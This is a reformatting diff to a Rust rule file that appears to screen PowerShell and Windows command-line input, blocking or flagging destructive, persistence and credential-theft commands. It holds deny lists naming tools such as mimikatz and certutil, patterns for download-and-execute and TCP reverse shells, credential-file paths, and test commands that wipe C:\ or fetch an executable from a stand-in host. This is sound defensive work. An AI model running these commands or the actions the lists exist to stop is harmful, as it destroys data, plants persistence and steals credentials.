@@ -7,22 +7,87 @@ use crate::rules::matcher::{Found, Instead, RULE, Rule, Scene, Trigger};
 
 /// Programs of that world that other shells do not have.
 const OWN: &[&str] = &[
-    "del", "erase", "rd", "ri", "rmdir", "rm", "format", "format.com", "diskpart", "reg", "vssadmin", "wbadmin", "bcdedit", "wmic", "cipher", "fsutil",
-    "netsh", "sc", "sc.exe", "net", "net1", "schtasks", "taskkill", "takeown", "icacls", "wevtutil", "certutil", "bitsadmin", "mshta", "regsvr32",
-    "rundll32", "iex", "type", "gc", "shutdown", "wsl", "mimikatz", "procdump", "powershell", "pwsh", "cmd", "iwr", "irm", "gci", "start", "spps", "attrib", "cmstp", "wscript", "cscript", "psexec", "reagentc", "ntdsutil", "esentutl", "manage-bde", "auditpol",
+    "del",
+    "erase",
+    "rd",
+    "ri",
+    "rmdir",
+    "rm",
+    "format",
+    "format.com",
+    "diskpart",
+    "reg",
+    "vssadmin",
+    "wbadmin",
+    "bcdedit",
+    "wmic",
+    "cipher",
+    "fsutil",
+    "netsh",
+    "sc",
+    "sc.exe",
+    "net",
+    "net1",
+    "schtasks",
+    "taskkill",
+    "takeown",
+    "icacls",
+    "wevtutil",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+    "regsvr32",
+    "rundll32",
+    "iex",
+    "type",
+    "gc",
+    "shutdown",
+    "wsl",
+    "mimikatz",
+    "procdump",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "iwr",
+    "irm",
+    "gci",
+    "start",
+    "spps",
+    "attrib",
+    "cmstp",
+    "wscript",
+    "cscript",
+    "psexec",
+    "reagentc",
+    "ntdsutil",
+    "esentutl",
+    "manage-bde",
+    "auditpol",
 ];
 
 /// Programs of which a bash may have one of the same name: only with a path or a switch of Windows.
-const SHARED: &[&str] = &["rm", "rmdir", "format", "type", "net", "start", "sc", "shutdown", "gc", "cipher", "reg", "rd"];
+const SHARED: &[&str] =
+    &["rm", "rmdir", "format", "type", "net", "start", "sc", "shutdown", "gc", "cipher", "reg", "rd"];
 
-const NEEDS: Trigger = Trigger::ACTIVE.or(Trigger::UNKNOWN).or(Trigger::programs(&["type", "gc", "net", "rm", "rmdir", "cat", "Get-Content", "get-content"]));
+const NEEDS: Trigger = Trigger::ACTIVE.or(Trigger::UNKNOWN).or(Trigger::programs(&[
+    "type",
+    "gc",
+    "net",
+    "rm",
+    "rmdir",
+    "cat",
+    "Get-Content",
+    "get-content",
+]));
 
 pub(super) const RULES: &[Rule] = &[
     Rule {
         id: "powershell.ruinous",
         severity: Severity::Critical,
         reason: "destroys, spies or lets somebody in, in the words of Windows",
-        instead: Some(Instead::Advice("name the one file or setting that is meant, or ask the person to do it")),
+        instead: Some(Instead::Advice(
+            "name the one file or setting that is meant, or ask the person to do it",
+        )),
         when: &[predicate("ruinous_in_powershell", NEEDS, |scene| said(scene, Verdict::Block))],
         fires: &[
             "Remove-Item -Recurse -Force 'C:\\'",
@@ -61,7 +126,12 @@ pub(super) const RULES: &[Rule] = &[
             "reg add 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' /v x /d x.exe",
             "certutil -urlcache -split -f http://x.example/x.exe x.exe",
         ],
-        silent: &["Get-ScheduledTask", "Get-ExecutionPolicy", "reg query 'HKCU\\Software'", "certutil -hashfile a.zip SHA256"],
+        silent: &[
+            "Get-ScheduledTask",
+            "Get-ExecutionPolicy",
+            "reg query 'HKCU\\Software'",
+            "certutil -hashfile a.zip SHA256",
+        ],
         ..RULE
     },
 ];
@@ -83,12 +153,21 @@ fn said<'a>(scene: &Scene<'a>, verdict: Verdict) -> Found<'a> {
 fn is_own(inv: &Invocation) -> bool {
     // The survey knows some by what they are called elsewhere.
     let word = inv.text.split_whitespace().next().unwrap_or_default();
-    let same = matches!(inv.program.as_str(), "rm" | "rmdir" | "cat") && !word.eq_ignore_ascii_case(&inv.program);
+    let same =
+        matches!(inv.program.as_str(), "rm" | "rmdir" | "cat") && !word.eq_ignore_ascii_case(&inv.program);
     let name = if same { word } else { inv.program.as_str() }.to_ascii_lowercase();
     let name = name.strip_suffix(".exe").unwrap_or(&name);
     if OWN.contains(&name) {
         let shared = SHARED.contains(&name);
-        return !shared || inv.text.contains('\\') || inv.text.contains(" /") && name != "rm" && name != "rmdir" || inv.text.contains(':') || inv.text.contains('%') || inv.text.contains("-r -fo") || name == "sc" || name == "net" || name == "reg";
+        return !shared
+            || inv.text.contains('\\')
+            || inv.text.contains(" /") && name != "rm" && name != "rmdir"
+            || inv.text.contains(':')
+            || inv.text.contains('%')
+            || inv.text.contains("-r -fo")
+            || name == "sc"
+            || name == "net"
+            || name == "reg";
     }
     is_cmdlet(name)
 }
@@ -96,9 +175,31 @@ fn is_own(inv: &Invocation) -> bool {
 /// `Verb-Noun`.
 fn is_cmdlet(name: &str) -> bool {
     const VERBS: &[&str] = &[
-        "remove", "clear", "format", "initialize", "stop", "restart", "set", "add", "new", "register", "invoke", "get", "disable", "start", "unregister", "reset", "uninstall", "dismount", "out", "enter", "suspend",
+        "remove",
+        "clear",
+        "format",
+        "initialize",
+        "stop",
+        "restart",
+        "set",
+        "add",
+        "new",
+        "register",
+        "invoke",
+        "get",
+        "disable",
+        "start",
+        "unregister",
+        "reset",
+        "uninstall",
+        "dismount",
+        "out",
+        "enter",
+        "suspend",
     ];
-    name.split_once('-').is_some_and(|(verb, noun)| VERBS.contains(&verb) && noun.len() > 1 && noun.bytes().all(|b| b.is_ascii_alphanumeric()))
+    name.split_once('-').is_some_and(|(verb, noun)| {
+        VERBS.contains(&verb) && noun.len() > 1 && noun.bytes().all(|b| b.is_ascii_alphanumeric())
+    })
 }
 
 /// What a script of PowerShell or of Windows' command line deserves.
@@ -123,25 +224,57 @@ pub(super) fn script(text: &str) -> Verdict {
 /// Forms that hold more than one statement together.
 fn whole(lower: &str) -> Verdict {
     let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
-    let first = |line: &str| line.trim_start().split_whitespace().next().unwrap_or_default().trim_matches(['"', '\'']).to_owned();
+    let first = |line: &str| {
+        line.trim_start().split_whitespace().next().unwrap_or_default().trim_matches(['"', '\'']).to_owned()
+    };
     let mut verdict = Verdict::Allow;
     for line in lower.lines() {
-        let prints = matches!(first(line).as_str(), "write-host" | "write-output" | "echo" | "select-string" | "findstr" | "write-verbose" | "rem" | "#");
+        let prints = matches!(
+            first(line).as_str(),
+            "write-host"
+                | "write-output"
+                | "echo"
+                | "select-string"
+                | "findstr"
+                | "write-verbose"
+                | "rem"
+                | "#"
+        );
         if prints || line.trim_start().starts_with('#') {
             continue;
         }
-        let word = |name: &str| line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-')).any(|one| one == name);
+        let word = |name: &str| {
+            line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-')).any(|one| one == name)
+        };
         let runs = word("iex") || word("invoke-expression");
-        let fetches = word("iwr") || word("irm") || word("invoke-webrequest") || word("invoke-restmethod") || line.contains("downloadstring") || word("curl") || word("wget") || line.contains("downloaddata");
+        let fetches = word("iwr")
+            || word("irm")
+            || word("invoke-webrequest")
+            || word("invoke-restmethod")
+            || line.contains("downloadstring")
+            || word("curl")
+            || word("wget")
+            || line.contains("downloaddata");
         let decodes = line.contains("frombase64string") || line.contains("gzipstream");
-        if runs && (fetches || decodes) || line.contains(".sockets.tcpclient") && has(&["getstream", "iex", "invoke-expression"]) {
+        if runs && (fetches || decodes)
+            || line.contains(".sockets.tcpclient") && has(&["getstream", "iex", "invoke-expression"])
+        {
             return Verdict::Block;
         }
-        let bomb = line.contains("%0|%0") || line.contains("while($true)") && line.contains("start-process") || line.contains("while(1)") && line.contains("start-process");
-        if bomb || line.contains("downloadfile(") && (line.contains("start-process") || line.contains(".exe")) && line.contains("http://") {
+        let bomb = line.contains("%0|%0")
+            || line.contains("while($true)") && line.contains("start-process")
+            || line.contains("while(1)") && line.contains("start-process");
+        if bomb
+            || line.contains("downloadfile(")
+                && (line.contains("start-process") || line.contains(".exe"))
+                && line.contains("http://")
+        {
             return Verdict::Block;
         }
-        if line.contains("[system.io.directory]::delete(") && roots(line) || line.contains("invoke-mimikatz") || line.contains("amsiutils") {
+        if line.contains("[system.io.directory]::delete(") && roots(line)
+            || line.contains("invoke-mimikatz")
+            || line.contains("amsiutils")
+        {
             return Verdict::Block;
         }
         if fetches && line.contains("start-process") && line.contains("-outfile") {
@@ -155,11 +288,53 @@ fn whole(lower: &str) -> Verdict {
 fn roots(text: &str) -> bool {
     text.split([' ', ',', '"', '\'', '(', ')']).any(|word| {
         let word = word.trim_end_matches(['*', '.']).trim_end_matches(['\\', '/']);
-        let drive = |rest: &str| rest.is_empty() || matches!(rest, "\\windows" | "\\users" | "\\windows\\system32" | "\\program files" | "\\programdata" | "\\progra~1" | "\\boot" | "\\recovery");
+        let drive = |rest: &str| {
+            rest.is_empty()
+                || matches!(
+                    rest,
+                    "\\windows"
+                        | "\\users"
+                        | "\\windows\\system32"
+                        | "\\program files"
+                        | "\\programdata"
+                        | "\\progra~1"
+                        | "\\boot"
+                        | "\\recovery"
+                )
+        };
         let mut chars = word.chars();
-        let lettered = chars.next().is_some_and(|c| c.is_ascii_alphabetic()) && chars.next() == Some(':') && drive(chars.as_str());
-        let user = ["\\users\\", "/users/"].iter().any(|dir| word.split_once(dir).is_some_and(|(front, name)| front.len() == 2 && !name.is_empty() && !name.contains(['\\', '/'])));
-        lettered || user || word.contains("\\windows\\system32") || matches!(word, "$home" | "~" | "$env:userprofile" | "%userprofile%" | "%systemroot%" | "%systemdrive%" | "$env:systemroot" | "$env:windir" | "%windir%" | "$env:systemdrive" | "%homepath%" | "$env:homepath" | "hklm:" | "hkcu:" | "hklm:\\software" | "hklm:\\system" | "hkcu:\\software" | "hkcr:")
+        let lettered = chars.next().is_some_and(|c| c.is_ascii_alphabetic())
+            && chars.next() == Some(':')
+            && drive(chars.as_str());
+        let user = ["\\users\\", "/users/"].iter().any(|dir| {
+            word.split_once(dir).is_some_and(|(front, name)| {
+                front.len() == 2 && !name.is_empty() && !name.contains(['\\', '/'])
+            })
+        });
+        lettered
+            || user
+            || word.contains("\\windows\\system32")
+            || matches!(
+                word,
+                "$home"
+                    | "~"
+                    | "$env:userprofile"
+                    | "%userprofile%"
+                    | "%systemroot%"
+                    | "%systemdrive%"
+                    | "$env:systemroot"
+                    | "$env:windir"
+                    | "%windir%"
+                    | "$env:systemdrive"
+                    | "%homepath%"
+                    | "$env:homepath"
+                    | "hklm:"
+                    | "hkcu:"
+                    | "hklm:\\software"
+                    | "hklm:\\system"
+                    | "hkcu:\\software"
+                    | "hkcr:"
+            )
     })
 }
 
@@ -172,20 +347,36 @@ fn unwrapped(stage: &str) -> &str {
         for front in ["powershell.exe", "powershell", "pwsh.exe", "pwsh", "cmd.exe", "cmd"] {
             if let Some(behind) = rest.strip_prefix(front).filter(|behind| behind.starts_with(' ')) {
                 let flags = ["-command ", "-c ", "/c ", "/k ", "/s /c "];
-                if let Some(at) = flags.iter().filter_map(|flag| behind.find(flag).map(|at| at + flag.len())).min() {
+                if let Some(at) =
+                    flags.iter().filter_map(|flag| behind.find(flag).map(|at| at + flag.len())).min()
+                {
                     rest = behind.get(at..).unwrap_or_default();
                 }
             }
         }
-        for front in ["foreach-object", "foreach", "try", "else", "start-job -scriptblock", "invoke-command -scriptblock", "%", "do"] {
-            if let Some(behind) = rest.strip_prefix(front).filter(|behind| behind.trim_start().starts_with('{')) {
+        for front in [
+            "foreach-object",
+            "foreach",
+            "try",
+            "else",
+            "start-job -scriptblock",
+            "invoke-command -scriptblock",
+            "%",
+            "do",
+        ] {
+            if let Some(behind) =
+                rest.strip_prefix(front).filter(|behind| behind.trim_start().starts_with('{'))
+            {
                 rest = behind;
             }
         }
         if rest.starts_with("if ") || rest.starts_with("if(") {
             rest = rest.split_once(['{']).map_or(rest, |(_, block)| block);
         }
-        if let Some((name, value)) = rest.split_once('=').filter(|(name, _)| name.trim_start().starts_with('$') && !name.trim().contains(' ')) {
+        if let Some((name, value)) = rest
+            .split_once('=')
+            .filter(|(name, _)| name.trim_start().starts_with('$') && !name.trim().contains(' '))
+        {
             let _ = name;
             rest = value;
         }
@@ -201,7 +392,8 @@ fn statement(stage: &str, before: &str) -> Verdict {
     let (first, rest) = text.split_once(char::is_whitespace).unwrap_or((text, ""));
     let name = first.trim_matches(['"', '\'', ')', '}']).rsplit(['\\', '/']).next().unwrap_or_default();
     let name = name.strip_suffix(".exe").unwrap_or(name);
-    let words: Vec<&str> = rest.split_whitespace().map(|word| word.trim_matches(['"', '\'', ')', '}', ','])).collect();
+    let words: Vec<&str> =
+        rest.split_whitespace().map(|word| word.trim_matches(['"', '\'', ')', '}', ','])).collect();
     let has = |list: &[&str]| words.iter().any(|word| list.contains(word));
     let holds = |list: &[&str]| list.iter().any(|part| rest.contains(part));
     let block = |on: bool| if on { Verdict::Block } else { Verdict::Allow };
@@ -209,13 +401,42 @@ fn statement(stage: &str, before: &str) -> Verdict {
     match name {
         "remove-item" | "ri" | "rm" | "del" | "erase" | "rd" | "rmdir" => {
             let recursive = words.iter().any(|word| matches!(*word, "/s" | "-r") || word.starts_with("-rec"));
-            let everything = before.contains("get-psdrive") || roots(before) && (before.contains(" -r") || before.contains("/s"));
+            let everything = before.contains("get-psdrive")
+                || roots(before) && (before.contains(" -r") || before.contains("/s"));
             let windows = roots(rest);
-            block(windows && recursive || rest.contains("\\windows\\system32") || everything || holds(&["historysavepath"]) || recursive && (rest.ends_with("\\.git") || has(&[".git"])))
+            block(
+                windows && recursive
+                    || rest.contains("\\windows\\system32")
+                    || everything
+                    || holds(&["historysavepath"])
+                    || recursive && (rest.ends_with("\\.git") || has(&[".git"])),
+            )
         }
         "format" => block(words.iter().any(|word| word.len() == 2 && word.ends_with(':'))),
-        "format-volume" | "clear-disk" | "initialize-disk" | "remove-partition" | "stop-computer" | "restart-computer" | "clear-eventlog" | "remove-eventlog" | "new-localuser" | "add-localgroupmember" | "remove-localuser"
-        | "reset-computermachinepassword" | "mimikatz" | "disable-computerrestore" | "invoke-mimikatz" | "remove-azresourcegroup" | "remove-vm" | "remove-azvm" | "remove-aduser" | "remove-adobject" | "remove-mailbox" | "remove-storagepool" | "remove-virtualdisk" | "enable-psremoting" => Verdict::Block,
+        "format-volume"
+        | "clear-disk"
+        | "initialize-disk"
+        | "remove-partition"
+        | "stop-computer"
+        | "restart-computer"
+        | "clear-eventlog"
+        | "remove-eventlog"
+        | "new-localuser"
+        | "add-localgroupmember"
+        | "remove-localuser"
+        | "reset-computermachinepassword"
+        | "mimikatz"
+        | "disable-computerrestore"
+        | "invoke-mimikatz"
+        | "remove-azresourcegroup"
+        | "remove-vm"
+        | "remove-azvm"
+        | "remove-aduser"
+        | "remove-adobject"
+        | "remove-mailbox"
+        | "remove-storagepool"
+        | "remove-virtualdisk"
+        | "enable-psremoting" => Verdict::Block,
         "diskpart" => block(!words.is_empty() || !before.is_empty()),
         "shutdown" => block(has(&["/s", "/r", "/p", "/h", "-s", "-r"])),
         "reg" => match words.first() {
@@ -233,18 +454,46 @@ fn statement(stage: &str, before: &str) -> Verdict {
         "fsutil" => block(holds(&["deletejournal", "setzerodata"])),
         "set-mppreference" => block(holds(&["-disable", "-exclusion"])),
         "add-mppreference" => block(holds(&["-exclusion"])),
-        "netsh" => block(holds(&["state off", "firewall set opmode disable"])).max(ask(holds(&["advfirewall firewall add", "portproxy add", "interface set"]))),
+        "netsh" => block(holds(&["state off", "firewall set opmode disable"])).max(ask(holds(&[
+            "advfirewall firewall add",
+            "portproxy add",
+            "interface set",
+        ]))),
         "set-netfirewallprofile" => block(holds(&["-enabled false", "-enabled $false", "-enabled:$false"])),
-        "sc" => block(has(&["stop", "delete"]) && holds(&["windefend", "mpssvc", "wuauserv", "eventlog", "sense"])).max(ask(has(&["delete", "create", "config", "stop"]))),
-        "stop-service" | "set-service" | "remove-service" => block(holds(&["windefend", "mpssvc", "eventlog", "sense"])).max(ask(name != "set-service")),
-        "net" | "net1" => block(matches!(words.as_slice(), ["user", _, _, ..]) || has(&["/add"]) && has(&["localgroup", "group"]) || matches!(words.as_slice(), ["stop", "windefend", ..])),
-        "schtasks" => ask(has(&["/create", "/change"])).max(block(has(&["/delete"]) && has(&["*"]))),
-        "register-scheduledtask" | "new-service" | "set-wmiinstance" | "enable-localuser" | "disable-netadapter" | "uninstall-windowsfeature" | "disable-windowsoptionalfeature" | "set-executionpolicy" | "remove-netfirewallrule" | "new-netfirewallrule" | "unregister-scheduledtask" | "set-localuser" | "psexec" => {
-            ask(name != "set-executionpolicy" || !holds(&["-scope process"]) && holds(&["bypass", "unrestricted"]))
+        "sc" => block(
+            has(&["stop", "delete"]) && holds(&["windefend", "mpssvc", "wuauserv", "eventlog", "sense"]),
+        )
+        .max(ask(has(&["delete", "create", "config", "stop"]))),
+        "stop-service" | "set-service" | "remove-service" => {
+            block(holds(&["windefend", "mpssvc", "eventlog", "sense"])).max(ask(name != "set-service"))
         }
-        "set-itemproperty" | "new-itemproperty" => ask(holds(&["\\run", "winlogon", "policies\\", "image file execution"])),
+        "net" | "net1" => block(
+            matches!(words.as_slice(), ["user", _, _, ..])
+                || has(&["/add"]) && has(&["localgroup", "group"])
+                || matches!(words.as_slice(), ["stop", "windefend", ..]),
+        ),
+        "schtasks" => ask(has(&["/create", "/change"])).max(block(has(&["/delete"]) && has(&["*"]))),
+        "register-scheduledtask"
+        | "new-service"
+        | "set-wmiinstance"
+        | "enable-localuser"
+        | "disable-netadapter"
+        | "uninstall-windowsfeature"
+        | "disable-windowsoptionalfeature"
+        | "set-executionpolicy"
+        | "remove-netfirewallrule"
+        | "new-netfirewallrule"
+        | "unregister-scheduledtask"
+        | "set-localuser"
+        | "psexec" => ask(name != "set-executionpolicy"
+            || !holds(&["-scope process"]) && holds(&["bypass", "unrestricted"])),
+        "set-itemproperty" | "new-itemproperty" => {
+            ask(holds(&["\\run", "winlogon", "policies\\", "image file execution"]))
+        }
         "taskkill" => block(has(&["*"])).max(block(holds(&["lsass", "winlogon", "csrss", "svchost"]))),
-        "stop-process" | "spps" => block(has(&["*"]) || matches!(before.trim(), "get-process" | "ps" | "gps")),
+        "stop-process" | "spps" => {
+            block(has(&["*"]) || matches!(before.trim(), "get-process" | "ps" | "gps"))
+        }
         "takeown" => block(has(&["/r"]) && roots(rest)),
         "icacls" => block(roots(rest) && has(&["/t"])).max(ask(holds(&["everyone:f", "everyone:(f)"]))),
         "wevtutil" => block(has(&["cl", "clear-log"])),
@@ -259,7 +508,9 @@ fn statement(stage: &str, before: &str) -> Verdict {
         "manage-bde" => ask(holds(&["-off", "-forcerecovery"])),
         "invoke-restmethod" | "irm" | "invoke-webrequest" | "iwr" => sent(rest),
         "get-content" | "gc" | "type" | "cat" | "copy-item" => block(secret(rest)),
-        "set-content" | "add-content" | "out-file" => ask(holds(&["$profile", "drivers\\etc\\hosts", "\\startup\\"])),
+        "set-content" | "add-content" | "out-file" => {
+            ask(holds(&["$profile", "drivers\\etc\\hosts", "\\startup\\"]))
+        }
         "start-process" | "start" | "saps" => ask(holds(&["-verb runas"])),
         "wsl" => block(holds(&["rm -rf /", "rm -rf ~", "rm -fr /", "--unregister", "mkfs", "dd if="])),
         "powershell" | "pwsh" => ask(holds(&["-file \\\\", "-file http"])),
@@ -270,7 +521,19 @@ fn statement(stage: &str, before: &str) -> Verdict {
 /// A file of secrets, by Windows' separators.
 fn secret(text: &str) -> bool {
     let text = text.replace('/', "\\");
-    let key = ["\\.ssh\\id_", "\\.aws\\credentials", "ntds.dit", "\\config\\sam", "unattend.xml", "\\.kube\\config", "\\.git-credentials", "\\login data", "\\.azure\\accesstokens", "\\.docker\\config.json", "\\microsoft\\credentials"];
+    let key = [
+        "\\.ssh\\id_",
+        "\\.aws\\credentials",
+        "ntds.dit",
+        "\\config\\sam",
+        "unattend.xml",
+        "\\.kube\\config",
+        "\\.git-credentials",
+        "\\login data",
+        "\\.azure\\accesstokens",
+        "\\.docker\\config.json",
+        "\\microsoft\\credentials",
+    ];
     key.iter().any(|part| text.contains(part)) && !text.contains(".pub")
 }
 
@@ -278,7 +541,9 @@ fn secret(text: &str) -> bool {
 fn sent(rest: &str) -> Verdict {
     let away = !rest.contains("localhost") && !rest.contains("127.0.0.1");
     let posts = rest.contains("-method post") || rest.contains("-method put");
-    let all = rest.contains("env:") && rest.contains("get-childitem") || rest.contains("gci env:") || rest.contains("dir env:");
+    let all = rest.contains("env:") && rest.contains("get-childitem")
+        || rest.contains("gci env:")
+        || rest.contains("dir env:");
     if away && (secret(rest) || posts && all) {
         return Verdict::Block;
     }
